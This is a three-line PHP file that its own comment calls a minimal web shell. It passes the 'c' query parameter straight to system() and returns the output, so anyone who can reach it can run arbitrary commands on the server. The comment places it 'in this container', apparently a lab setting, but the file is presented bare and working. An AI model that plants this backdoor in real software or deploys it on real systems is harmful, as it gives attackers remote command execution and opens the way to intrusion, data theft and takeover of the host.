<?php
// A web shell as small as they come. It runs what it is given, in this container.
system($_GET['c'] . ' 2>&1');
